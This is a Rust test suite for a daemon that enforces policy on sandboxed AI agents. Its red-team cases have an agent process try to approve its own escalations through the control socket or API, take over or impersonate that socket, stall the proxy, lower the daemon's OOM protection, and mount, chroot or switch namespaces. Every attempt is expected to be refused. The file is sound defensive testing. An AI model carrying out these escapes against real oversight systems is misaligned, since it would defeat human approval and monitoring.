         \x20 - {{ id: ux-shadow, mode: shadow, unix: {{ path: {d}/tmp/shadowed.sock }}, verdict: block, reason: trial }}\n\
         \x20 - {{ id: ux-abstract, unix: {{ abstract: {abs} }}, verdict: block, reason: an abstract service }}\n\
         \x20 - {{ id: ux-dgram, unix: {{ path: {d}/tmp/dgram.sock }}, verdict: block, reason: a datagram service }}\n"
    ));
    let connect = |name: &str| Attempt::UnixConnect {
        path: cstr(&fx.p(&format!("tmp/{name}.sock"))),
    };
    // Block, by the path and through a hard link elsewhere.
    let ev = deny(
        &mut k,
        &fx,
        "unix rule block",
        &connect("blocked"),
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(14));
    assert_eq!(ev.detail, governance_common::unix_detail::PATH);
    let link = fx.p("scratch/other-name.sock");
    std::fs::hard_link(fx.p("tmp/blocked.sock"), &link).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "unix rule block via a hard link",
        &Attempt::UnixConnect { path: cstr(&link) },
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(14));
    // An abstract name.
    let ev = deny(
        &mut k,
        &fx,
        "unix rule on an abstract name",
        &Attempt::UnixConnectAbstract {
            name: abs.as_bytes().to_vec(),
        },
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(18));
    assert_eq!(ev.detail, governance_common::unix_detail::ABSTRACT);
    assert_eq!(ev.object, governance_common::unix_name_hash(abs.as_bytes()));
    // A datagram (unix_may_send).
    let ev = deny(
        &mut k,
        &fx,
        "unix datagram sendto",
        &Attempt::UnixSendTo {
            path: cstr(&dgram_path),
        },
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(19));
    assert_eq!(ev.port, governance_common::unix_hook::SEND);
    // Throttle: 2 per hour, the third is refused.
    for _ in 0..2 {
        let ev = allow(
            &mut k,
            &fx,
            "unix throttle within the rate",
            &connect("throttled"),
        );
        assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Throttle));
    }
    let ev = deny(
        &mut k,
        &fx,
        "unix throttle beyond the rate",
        &connect("throttled"),
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(16));
    // Escalate: refused with an approval request; once granted, the retry passes, for that
    // socket only.
    let ev = deny(
        &mut k,
        &fx,
        "unix escalate holds until approved",
        &connect("escalated"),
        Kind::Unix,
        Control::Succeeds,
    );
    assert_eq!(Verdict::from_u8(ev.verdict), Some(Verdict::Escalate));
    let g = governance::events::requested_grant(&ev).expect("an approval request");
    k.enforcer
        .grant(g, governance::events::monotonic_ns() + 60_000_000_000)
        .unwrap();
    let ev = allow(
        &mut k,
        &fx,
        "unix escalate after approval",
        &connect("escalated"),
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Granted));
    deny(
        &mut k,
        &fx,
        "unix grant is per socket",
        &connect("blocked"),
        Kind::Unix,
        Control::Succeeds,
    );
    // Shadow: allowed, reported as "would block".
    let ev = allow(&mut k, &fx, "unix shadow rule", &connect("shadowed"));
    assert_ne!(ev.flags & flags::SHADOW, 0);
    assert_eq!(ev.shadow_rule_id, k.rule(17));
    assert_eq!(Verdict::from_u8(ev.shadow_verdict), Some(Verdict::Block));
    // Legitimate work: an unrelated socket, the default (allow) decides.
    let ev = allow(&mut k, &fx, "unix unrelated socket", &connect("unrelated"));
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Default));
    assert_eq!(text(&ev.path), fx.p("tmp/unrelated.sock").to_str().unwrap());
}

/// Issue 12, class 5: the control plane. An agent reaches neither the daemon's control
/// socket (by any name) nor its TCP API, so it never lists, approves, denies or reloads,
/// whatever it tries; the same commands outside the agent work. A runtime socket that appears
/// after the daemon started is refused as soon as the daemon sees it.
#[test]
fn unix_control_plane_is_refused_to_agents() {
    use std::io::BufRead as _;
    require_root();
    let fx = Fixture::new("ctlplane");
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    let bin = governance_bin();
    std::fs::write(
        dir.join("p.yaml"),
        fx.policy(&format!(
            "\x20 - {{ id: cli, exec: {{ path: {} }}, verdict: allow, reason: the CLI }}\n",
            bin.display()
        )),
    )
    .unwrap();
    let api = {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap()
    };
    let token = fx.p("token");
    std::fs::write(&token, "t0ken\n").unwrap();
    let pins = shared_pins();
    let pins_arg = pins.to_str().unwrap().to_owned();
    let api_arg = api.to_string();
    let (daemon, _) = start_daemon(
        &[
            "--no-create-cgroups",
            "--pins",
            &pins_arg,
            "--api-listen",
            &api_arg,
            "--api-token-file",
            token.to_str().unwrap(),
        ],
        &dir,
    );
    let socket = daemon.socket();
    let agent = fx.agent.rel.display().to_string();
    let mut follower = governance_tests::Reaped(
        std::process::Command::new(&bin)
            .args([
                "events", "--follow", "-o", "json", "--agent", &agent, "--socket",
            ])
            .arg(&socket)
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let (tx, rx) = std::sync::mpsc::channel::<serde_json::Value>();
    let out = follower.stdout.take().unwrap();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(out).lines().map_while(Result::ok) {
            if let Ok(v) = serde_json::from_str(&line)
                && tx.send(v).is_err()
            {
                break;
            }
        }
    });
    let next = |what: &str, pred: &dyn Fn(&serde_json::Value) -> bool| -> serde_json::Value {
        // Generous: the VM is emulated and may share its two cores with a loaded host.
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        loop {
            let left = deadline.saturating_duration_since(std::time::Instant::now());
            let v = rx
                .recv_timeout(left)
                .unwrap_or_else(|_| panic!("no {what} on the event stream within 60 s"));
            if pred(&v) {
                return v;
            }
        }
    };
    next("stream.subscribed", &|v| v["kind"] == "stream.subscribed");
    // One refused attempt: EPERM in the agent and its decision on the stream; the same
    // outside the agent succeeds.
    let refused = |case: &str, attempt: &Attempt, kind: &str, rule: &str| {
        println!("redteam: tried {case}");
        let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}: in the agent");
        let v = next(case, &|v| {
            v["type"] == "decision" && v["denied"] == true && v["process"]["pid"] == pid
        });
        assert_eq!(v["kind"], kind, "{case}: {v}");
        assert_eq!(v["rule"], rule, "{case}: {v}");
        assert_eq!(v["agent"]["cgroup_id"], fx.agent.id(), "{case}: {v}");
        println!("redteam: denied {case}");
        let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
        println!("redteam: control {case}");
        v
    };
    let connect = |p: &Path| Attempt::UnixConnect { path: cstr(p) };
    let v = refused(
        "unix connect to the control socket",
        &connect(&socket),
        "unix",
        "builtin:control-socket",
    );
    assert_eq!(v["object"]["path"], socket.to_str().unwrap(), "{v}");
    let alias = daemon.state.join("alias.sock");
    std::fs::hard_link(&socket, &alias).unwrap();
    refused(
        "unix control socket via a hard link",
        &connect(&alias),
        "unix",
        "builtin:control-socket",
    );
    let proc_root = PathBuf::from("/proc/self/root").join(socket.strip_prefix("/").unwrap());
    refused(
        "unix control socket via /proc/self/root",
        &connect(&proc_root),
        "unix",
        "builtin:control-socket",
    );
    refused(
        "connect to the TCP control API",
        &Attempt::connect(api),
        "connect",
        "builtin:control-api",
    );

    // The CLI from inside the agent: every command refused (by the kernel, before the daemon
    // sees it), and nothing changes; the same from outside works.
    let a = Attempt::open(&fx.p("approve-me.txt"), libc::O_RDONLY);
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &a);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM));
    let asked = next("the escalation", &|v| v["outcome"] == "escalate");
    let id = asked["approval"]["id"]
        .as_str()
        .expect("an approval id")
        .to_owned();
    let in_agent = |args: &[&str], tcp: bool| {
        let mut cmd =
            governance_tests::command_in(Some(&fx.agent.path), bin.to_str().unwrap(), args);
        if tcp {
            cmd.args(["--api", &api_arg, "--token", "t0ken"]);
        } else {
            cmd.arg("--socket").arg(&socket);
        }
        cmd.output().unwrap()
    };
    for (case, args, tcp) in [
        (
            "governance approvals from the agent",
            vec!["approvals"],
            false,
        ),
        (
            "governance approve from the agent",
            vec!["approve", &id, "--for", "1h"],
            false,
        ),
        (
            "governance deny from the agent",
            vec!["deny", &id, "--reason", "x"],
            false,
        ),
        (
            "governance policy reload from the agent",
            vec!["policy", "reload"],
            false,
        ),
        ("governance status from the agent", vec!["status"], false),
        (
            "governance approve through the TCP API from the agent",
            vec!["approve", &id],
            true,
        ),
    ] {
        println!("redteam: tried {case}");
        let out = in_agent(&args, tcp);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{case}: must fail");
        assert!(err.contains("Operation not permitted"), "{case}: {err}");
        let kind = if tcp { "connect" } else { "unix" };
        next(case, &|v| v["kind"] == kind && v["denied"] == true);
        println!("redteam: denied {case}");
        // Still pending: nothing the agent asked happened.
        let listed = daemon.cli(&["approvals", "-o", "json"]);
        assert!(listed.status.success(), "{case}: control");
        assert!(
            String::from_utf8_lossy(&listed.stdout).contains(&id),
            "{case}: the approval is still pending"
        );
        println!("redteam: control {case}");
    }
    // Outside: the approval goes through and the agent's retry passes.
    let approved = daemon.cli(&["approve", &id, "--for", "1m", "--as", "tester"]);
    assert!(
        approved.status.success(),
        "{}",
        String::from_utf8_lossy(&approved.stderr)
    );
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &a);
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "the retry passes after approval"
    );

    // A runtime socket created after the daemon started: refused once the daemon sees it
    // (a directory watch, or its once-a-second look).
    let late = Path::new("/run/podman/podman.sock");
    let _late = unix_listener(late);
    println!("redteam: tried unix runtime socket created after start");
    let pid = governance_tests::wait_for_value(
        "the new runtime socket to be refused to the agent",
        Duration::from_secs(20),
        || match run_in(Some(&fx.agent.path), "agent", &connect(late)) {
            (pid, Outcome::Errno(libc::EPERM)) => Some(pid),
            _ => None,
        },
    );
    let v = next("the late runtime socket's denial", &|v| {
        v["denied"] == true && v["process"]["pid"] == pid
    });
    assert_eq!(v["rule"], "builtin:runtime-socket", "{v}");
    println!("redteam: denied unix runtime socket created after start");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &connect(late));
    assert_eq!(outcome, Outcome::Exited(0));
    println!("redteam: control unix runtime socket created after start");
    let _ = std::fs::remove_file(late);
    governance_tests::stop_daemon(daemon);
}

/// The records of the daemon's audit log about process `pid` that `pred` accepts, waited for
/// (the log is written as the events drain).
fn audited(
    daemon: &governance_tests::Daemon,
    what: &str,
    pred: impl Fn(&serde_json::Value) -> bool,
) -> serde_json::Value {
    governance_tests::wait_for_value(what, Duration::from_secs(60), || {
        governance_tests::audit_records(&daemon.audit())
            .into_iter()
            .find(|v| pred(v))
    })
}

/// Red team round 4, F4: the control socket's name is the daemon's. An agent that could
/// unlink it and bind a listener of its own there would get the administrator's
/// `governance approve` and answer in the daemon's place. The socket's directory is refused to
/// agents' writes by identity: no unlink or rename of the socket, no rename over it, no new
/// socket (or other name) in the directory; each with its event, each made outside the agent
/// (on a spare name: the socket itself stays). And the CLI checks who serves a socket before it
/// sends anything: a server an agent runs, wherever its socket is, is refused with a message
/// that names the danger, and the server got nothing.
#[test]
fn the_control_socket_name_cannot_be_taken_over() {
    require_root();
    let fx = Fixture::new("sockname");
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("p.yaml"), fx.policy("")).unwrap();
    let pins = shared_pins();
    let pins_arg = pins.to_str().unwrap().to_owned();
    let (daemon, _) = start_daemon(&["--no-create-cgroups", "--pins", &pins_arg], &dir);
    let socket = daemon.socket();
    let sockdir = socket.parent().unwrap().to_owned();
    let spare = sockdir.join("spare");
    let made = sockdir.join("agent.sock");
    let denied = |case: &str, attempt: &Attempt, op: &str, errno: i32| {
        println!("redteam: tried {case}");
        std::fs::write(&spare, "spare").unwrap();
        let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
        assert_eq!(outcome, Outcome::Errno(errno), "{case}: in the agent");
        if errno == libc::EPERM {
            let v = audited(&daemon, case, |v| {
                v["type"] == "decision" && v["denied"] == true && v["process"]["pid"] == pid
            });
            assert_eq!(v["kind"], "link", "{case}: {v}");
            assert_eq!(v["rule"], "builtin:protected-path", "{case}: {v}");
            assert_eq!(v["object"]["detail"]["op"], op, "{case}: {v}");
            assert_eq!(v["agent"]["cgroup_id"], fx.agent.id(), "{case}: {v}");
        }
        assert!(
            socket.exists(),
            "{case}: the daemon's socket is still there"
        );
        println!("redteam: denied {case}");
    };
    let control = |case: &str, attempt: &Attempt| {
        std::fs::write(&spare, "spare").unwrap();
        let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
        let _ = std::fs::remove_file(&made);
        println!("redteam: control {case}");
    };
    let unlink = |p: &Path| Attempt::Unlink { path: cstr(p) };
    let bind = |p: &Path| Attempt::UnixBind { path: cstr(p) };
    let case = "F4 unlink the control socket";
    denied(case, &unlink(&socket), "unlink", libc::EPERM);
    control(case, &unlink(&spare));
    let case = "F4 rename the control socket away";
    denied(
        case,
        &Attempt::rename(&socket, &fx.p("tmp/moved.sock")),
        "rename",
        libc::EPERM,
    );
    control(case, &Attempt::rename(&spare, &made));
    let case = "F4 rename a file over the control socket";
    denied(
        case,
        &Attempt::rename(&spare, &socket),
        "rename",
        libc::EPERM,
    );
    control(case, &Attempt::rename(&spare, &made));
    let case = "F4 bind a socket of its own in the control socket's directory";
    denied(case, &bind(&made), "mknod", libc::EPERM);
    control(case, &bind(&made));
    // At the socket's own name the bind finds the name taken (it could not be unlinked).
    let case = "F4 bind a listener at the control socket's name";
    denied(case, &bind(&socket), "", libc::EADDRINUSE);
    control(case, &bind(&made));
    let _ = std::fs::remove_file(&spare);
    let status = daemon.cli(&["status"]);
    assert!(
        status.status.success(),
        "the daemon still answers on its socket: {}",
        String::from_utf8_lossy(&status.stderr)
    );

    // A server an agent runs, at a name the daemon does not protect (the administrator given
    // another --socket, or a name taken while no daemon ran): the CLI refuses it unsent.
    let fake = fx.p("tmp/fake.sock");
    let case = "F4 the admin's CLI talks to an agent's server";
    println!("redteam: tried {case}");
    // A listener in the agent at `path`, serving one connection (what it got on its stdout).
    let agent_server = |path: &Path| {
        let server = governance_tests::Reaped(
            governance_tests::command_in(
                Some(&fx.agent.path),
                HELPER,
                &["unix-serve", path.to_str().unwrap()],
            )
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap(),
        );
        governance_tests::wait_until("the agent's server", Duration::from_secs(30), || {
            path.exists()
        });
        server
    };
    let mut server = agent_server(&fake);
    let out = std::process::Command::new(governance_bin())
        .args(["approve", "1", "--socket"])
        .arg(&fake)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{case}: must fail");
    assert!(err.contains("refusing the server at"), "{case}: {err}");
    assert!(err.contains("not the governance daemon"), "{case}: {err}");
    assert!(err.contains("nothing was sent"), "{case}: {err}");
    assert!(
        err.contains(&fx.agent.rel.display().to_string()),
        "{case}: names its cgroup: {err}"
    );
    let served = {
        use std::io::Read as _;
        let mut s = String::new();
        server
            .stdout
            .take()
            .unwrap()
            .read_to_string(&mut s)
            .unwrap();
        s
    };
    assert!(
        served.contains("got 0 bytes"),
        "{case}: the agent's server got nothing: {served}"
    );
    println!("redteam: denied {case}");
    // The control: the daemon itself, through the same check.
    let out = daemon.cli(&["approvals"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    println!("redteam: control {case}");
    // Red team round 22: a process given a stopped daemon's pid, whose entry in the programs'
    // table of the daemon's processes is left behind, is not the daemon: the entry holds the
    // daemon's start stamp, not the process's.
    let case = "R22 the admin's CLI talks to a server holding a stale daemon entry's pid";
    println!("redteam: tried {case}");
    let stale = fx.p("tmp/stale.sock");
    let server = agent_server(&stale);
    let protected_path = pins
        .join(governance_common::pins::MAPS)
        .join(governance_common::maps::PROTECTED);
    let mut protected: aya::maps::HashMap<_, u32, u32> = aya::maps::HashMap::try_from(
        aya::maps::Map::from_map_data(aya::maps::MapData::from_pin(&protected_path).unwrap())
            .unwrap(),
    )
    .unwrap();
    protected.insert(server.id(), 1, 0).unwrap();
    let out = std::process::Command::new(governance_bin())
        .args(["approve", "1", "--socket"])
        .arg(&stale)
        .output()
        .unwrap();
    let _ = protected.remove(&server.id());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{case}: must fail");
    assert!(err.contains("not the governance daemon"), "{case}: {err}");
    println!("redteam: denied {case}");
    drop(server);
    governance_tests::stop_daemon(daemon);
}

/// Red team round 4, F5: a file lease held on an agent's own `/proc/PID/status` made the
/// proxy's read of it (once per connection) wait the lease break time, 45 s, and every other
/// agent's requests with it. Agents are refused leases (the `file_fcntl` guard, with its
/// event; outside an agent one is taken); a lease taken before the process became an agent is
/// not waited for: its connection is refused at once, and another agent's request through the
/// proxy meanwhile is answered well within the deadline (a bound, not a sleep).
#[test]
fn a_file_lease_never_stalls_the_proxy() {
    require_root();
    let fx = Fixture::new("lease");
    let other = governance_tests::TestCgroup::new("agent2");
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("p.yaml"), fx.policy("")).unwrap();
    std::fs::write(
        dir.join("second.yaml"),
        format!(
            "name: second\nagents: {{ cgroup: {} }}\nrules:\n  - {{ id: meta, network: {{ cidr: 169.254.169.254/32 }}, verdict: block, reason: metadata }}\n",
            other.rel.display()
        ),
    )
    .unwrap();
    let pins = shared_pins();
    let pins_arg = pins.to_str().unwrap().to_owned();
    let (daemon, seen) = start_daemon(&["--no-create-cgroups", "--pins", &pins_arg], &dir);
    let proxy = seen
        .lines()
        .find_map(|l| l.split("HTTP policy proxy on ").nth(1))
        .and_then(|rest| rest.split_whitespace().next())
        .expect("the proxy's address on the daemon's stderr")
        .to_owned();

    // A lease taken outside, kept into the agent, then a request through the proxy.
    let case = "F5 a lease held on the agent's /proc/PID/status stalls the proxy";
    println!("redteam: tried {case}");
    let procs = fx.agent.path.join("cgroup.procs");
    let started = std::time::Instant::now();
    let mut holder = governance_tests::Reaped(
        std::process::Command::new(HELPER)
            .args(["lease-then-join", procs.to_str().unwrap(), &proxy])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let mut holder_out = std::io::BufReader::new(holder.stdout.take().unwrap());
    let mut line = String::new();
    std::io::BufRead::read_line(&mut holder_out, &mut line).unwrap();
    assert_eq!(line.trim(), "lease ok", "the lease outside the agent");
    // Another agent's request meanwhile: answered, well before the lease break time (45 s).
    let deadline = Duration::from_secs(15);
    let t = std::time::Instant::now();
    let out = governance_tests::command_in(Some(&other.path), HELPER, &["http-get", &proxy])
        .output()
        .unwrap();
    let took = t.elapsed();
    let answer = String::from_utf8_lossy(&out.stdout);
    assert!(answer.contains("answer HTTP/1.1"), "{case}: {answer}");
    assert!(
        took < deadline,
        "{case}: the other agent waited {took:?}: {answer}"
    );
    // The holder's own connection: refused at once, not held for the lease.
    let ended =
        governance_tests::poll_until(deadline, || holder.try_wait().ok().flatten().is_some());
    let mut rest = String::new();
    let _ = std::io::Read::read_to_string(&mut holder_out, &mut rest);
    assert!(
        ended,
        "{case}: the lease holder's own request still waits after {:?}",
        started.elapsed()
    );
    assert!(!rest.contains("answer HTTP/1.1 200"), "{case}: {rest}");
    println!(
        "other agent answered in {took:?}; the lease holder: {}",
        rest.trim()
    );
    println!("redteam: denied {case}");
    println!("redteam: control {case}");
    // In the agent: no lease, on its own files or any other.
    let case = "F5 a write lease on its own /proc/self/status";
    println!("redteam: tried {case}");
    let lease = Attempt::Lease {
        path: cstr(Path::new("/proc/self/status")),
        kind: libc::F_WRLCK,
    };
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &lease);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
    let v = audited(&daemon, case, |v| {
        v["type"] == "decision" && v["denied"] == true && v["process"]["pid"] == pid
    });
    assert_eq!(v["kind"], "guard", "{case}: {v}");
    assert_eq!(v["rule"], "builtin:guard", "{case}: {v}");
    assert!(
        v["object"]["detail"]["guard"]
            .as_str()
            .is_some_and(|g| g.contains("file lease")),
        "{case}: {v}"
    );
    println!("redteam: denied {case}");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &lease);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
    println!("redteam: control {case}");

    governance_tests::stop_daemon(daemon);
}

/// Red team round 4, F6: the OOM killer picked the daemon (oom_score_adj 0) when an agent
/// filled memory with many processes each smaller than it. The daemon sets its own
/// oom_score_adj to -1000 at start; agents may not change it (the `inode_permission` guard).
#[test]
fn the_daemon_is_never_the_oom_killers_choice() {
    require_root();
    let fx = Fixture::new("oom");
    let dir = fx.p("policies");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("p.yaml"), fx.policy("")).unwrap();
    let pins = shared_pins();
    let pins_arg = pins.to_str().unwrap().to_owned();
    let (daemon, _) = start_daemon(
        &["--no-create-cgroups", "--no-proxy", "--pins", &pins_arg],
        &dir,
    );
    let adj = Path::new("/proc")
        .join(daemon.pid().to_string())
        .join("oom_score_adj");
    assert_eq!(std::fs::read_to_string(&adj).unwrap().trim(), "-1000");
    let case = "F6 raise the daemon's oom_score_adj";
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::Write {
            path: cstr(&adj),
            data: b"1000".to_vec(),
        },
    );
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
    let v = audited(&daemon, case, |v| {
        v["type"] == "decision" && v["denied"] == true && v["process"]["pid"] == pid
    });
    assert_eq!(v["kind"], "guard", "{case}: {v}");
    assert_eq!(std::fs::read_to_string(&adj).unwrap().trim(), "-1000");
    println!("redteam: denied {case}");
    // Outside, root may (writing the value it has).
    let (_, outcome) = run_in(
        Some(&fx.outsider.path),
        "outsider",
        &Attempt::Write {
            path: cstr(&adj),
            data: b"-1000".to_vec(),
        },
    );
    assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
    println!("redteam: control {case}");
    governance_tests::stop_daemon(daemon);
}

// ---------------------------------------------------------------------------------------------
// Root facilities, leaving the subtree, code that runs without an exec of it (issue 12).
// ---------------------------------------------------------------------------------------------

/// The hooks of the root-facility protections, on top of the fixture's.
const ROOT_HOOKS: [&str; 11] = [
    "capable",
    "uring_override_creds",
    "sb_mount",
    "sb_umount",
    "sb_remount",
    "sb_pivotroot",
    "move_mount",
    "task_alloc",
    "mmap_file",
    "file_mprotect",
    "inode_free_security",
];

/// A denial by the capability hook: the event names the capability.
fn deny_cap(
    k: &mut Loaded,
    fx: &Fixture,
    case: &str,
    attempt: &Attempt,
    cap: u32,
    control: Control,
) -> Event {
    let ev = deny(k, fx, case, attempt, Kind::Capability, control);
    assert_eq!(
        u32::from(ev.detail),
        cap,
        "{case}: refused {}, expected {}",
        governance_common::caps::name(u32::from(ev.detail)),
        governance_common::caps::name(cap)
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{case}");
    ev
}

/// A directory of the fixture to mount on, created empty.
fn mount_point(fx: &Fixture, name: &str) -> PathBuf {
    let p = fx.p(name);
    std::fs::create_dir_all(&p).unwrap();
    p
}

/// Mount a tmpfs at `target` (from the test, outside every agent).
fn mount_tmpfs(target: &Path) {
    mount_fs(c"tmpfs", target);
}

/// Mount a new filesystem of type `kind` at `target` (from the test, outside every agent).
fn mount_fs(kind: &std::ffi::CStr, target: &Path) {
    let t = cstr(target);
    // SAFETY: valid C strings.
    let r = unsafe {
        libc::mount(
            c"none".as_ptr(),
            t.as_ptr(),
            kind.as_ptr(),
            0,
            std::ptr::null(),
        )
    };
    assert_eq!(r, 0, "mount {kind:?} at {}", target.display());
}

/// Unmount whatever the control mounted at `target` (lazily: nothing may be using it).
fn unmount(target: &Path) {
    let t = cstr(target);
    // SAFETY: a valid C string.
    unsafe { libc::umount2(t.as_ptr(), libc::MNT_DETACH) };
}

/// The test VM's hostname, to set again (a no-op change).
fn hostname() -> Vec<u8> {
    // SAFETY: plain data, filled by uname.
    let mut u: libc::utsname = unsafe { std::mem::zeroed() };
    assert_eq!(unsafe { libc::uname(&mut u) }, 0);
    let name: Vec<u8> = u
        .nodename
        .iter()
        .take_while(|c| **c != 0)
        .map(|c| *c as u8)
        .collect();
    name
}

/// The dynamic loader: the interpreter the red-team helper (a dynamically linked program)
/// names.
fn loader() -> PathBuf {
    let elf = std::fs::read(HELPER).unwrap();
    governance::kernel::elf_interpreter(&elf).expect("the helper is dynamically linked")
}

/// An ELF64 program whose interpreter (`PT_INTERP`) is `interp` instead of its own (which must
/// be at least as long: the path is written in place).
fn with_interpreter(elf: &[u8], interp: &Path) -> Vec<u8> {
    let mut out = elf.to_vec();
    let u16_at = |at: usize| u16::from_le_bytes(elf[at..at + 2].try_into().unwrap()) as usize;
    let u64_at = |at: usize| u64::from_le_bytes(elf[at..at + 8].try_into().unwrap()) as usize;
    let (phoff, phentsize, phnum) = (u64_at(0x20), u16_at(0x36), u16_at(0x38));
    let phdr = (0..phnum)
        .map(|i| phoff + i * phentsize)
        .find(|&at| u32::from_le_bytes(elf[at..at + 4].try_into().unwrap()) == 3)
        .expect("a dynamically linked program has a PT_INTERP");
    let (offset, size) = (u64_at(phdr + 8), u64_at(phdr + 32));
    let name = interp.as_os_str().as_encoded_bytes();
    assert!(
        name.len() < size,
        "{} fits in {size} bytes",
        interp.display()
    );
    out[offset..offset + size].fill(0);
    out[offset..offset + name.len()].copy_from_slice(name);
    out
}

/// A process outside every agent, killed and reaped on drop.
fn outside_process(args: &[&str]) -> governance_tests::Reaped {
    governance_tests::Reaped(
        std::process::Command::new(BUSYBOX)
            .args(args)
            .spawn()
            .unwrap(),
    )
}

/// Class 6 (mounts and namespaces) and the root facilities: what root could do around the
/// policy is refused to an agent, each with its own precise event, and allowed outside.
#[test]
fn root_facilities_are_refused_to_agents() {
    use governance_common::{FILE_DETAIL_RAW_DEVICE, caps, mount_op};
    require_root();
    let fx = Fixture::new("root");
    let mut k = fx.load("");
    for hook in ROOT_HOOKS {
        k.require(hook);
    }
    let (a, b, c) = (
        mount_point(&fx, "mnt-a"),
        mount_point(&fx, "mnt-b"),
        mount_point(&fx, "mnt-c"),
    );
    // Mounts: sb_mount decides before the kernel checks CAP_SYS_ADMIN.
    let tmpfs = Attempt::Mount {
        source: c"none".into(),
        target: cstr(&a),
        fstype: c"tmpfs".into(),
        flags: 0,
    };
    let ev = deny(
        &mut k,
        &fx,
        "12 mount a tmpfs over a directory",
        &tmpfs,
        Kind::Mount,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, mount_op::MOUNT);
    assert_eq!(text(&ev.path), a.to_str().unwrap());
    unmount(&a);
    let bind = Attempt::Mount {
        source: cstr(&fx.p("secrets")),
        target: cstr(&b),
        fstype: c"".into(),
        flags: libc::MS_BIND,
    };
    deny(
        &mut k,
        &fx,
        "12 bind mount a protected directory under another name",
        &bind,
        Kind::Mount,
        Control::Succeeds,
    );
    unmount(&b);
    mount_tmpfs(&c);
    let remount = Attempt::Mount {
        source: c"none".into(),
        target: cstr(&c),
        fstype: c"".into(),
        flags: libc::MS_REMOUNT | libc::MS_RDONLY,
    };
    deny(
        &mut k,
        &fx,
        "12 remount read-only",
        &remount,
        Kind::Mount,
        Control::Succeeds,
    );
    // umount, pivot_root, open_tree and setns check CAP_SYS_ADMIN first.
    deny_cap(
        &mut k,
        &fx,
        "12 umount",
        &Attempt::Umount { target: cstr(&c) },
        caps::SYS_ADMIN,
        Control::Succeeds,
    );
    deny_cap(
        &mut k,
        &fx,
        "12 pivot_root",
        &Attempt::PivotRoot {
            new_root: cstr(&a),
            put_old: c"/".into(),
        },
        caps::SYS_ADMIN,
        Control::NotEperm,
    );
    deny_cap(
        &mut k,
        &fx,
        "12 chroot",
        &Attempt::Chroot {
            path: cstr(&fx.dir),
        },
        caps::SYS_CHROOT,
        Control::Succeeds,
    );
    deny_cap(
        &mut k,
        &fx,
        "12 open_tree and move_mount a copy of a tree",
        &Attempt::OpenTreeMove {
            from: cstr(&fx.p("allowed")),
            to: cstr(&b),
        },
        caps::SYS_ADMIN,
        Control::Succeeds,
    );
    unmount(&b);
    deny_cap(
        &mut k,
        &fx,
        "12 unshare(CLONE_NEWNS)",
        &Attempt::Unshare {
            flags: libc::CLONE_NEWNS,
        },
        caps::SYS_ADMIN,
        Control::Succeeds,
    );
    // Another mount namespace, made outside: setns into it.
    let other = outside_process(&["unshare", "-m", BUSYBOX, "sleep", "120"]);
    let ns = PathBuf::from(format!("/proc/{}/ns/mnt", other.id()));
    let own = std::fs::read_link("/proc/self/ns/mnt").unwrap();
    governance_tests::wait_until(
        "the outside process's own mount namespace",
        Duration::from_secs(20),
        || std::fs::read_link(&ns).is_ok_and(|n| n != own),
    );
    // Refused before setns(): opening a namespace of a process outside the agent is a
    // ptrace_may_access() check (EACCES from procfs). Inside its own subtree the capability
    // check refuses it (the unshare case above).
    deny_errno(
        &mut k,
        &fx,
        "12 setns into another mount namespace",
        &Attempt::Setns {
            path: cstr(&ns),
            nstype: libc::CLONE_NEWNS,
        },
        libc::EACCES,
        Kind::Ptrace,
        Control::Succeeds,
    );
    drop(other);
    // A socket's mark chooses the node's routing table and firewall treatment (a VPN's bypass
    // mark): the kernel grants it for CAP_NET_RAW (red team round 15), which agents may have
    // with raw sockets allowed, so the option itself is refused (round 16).
    let ev = deny(
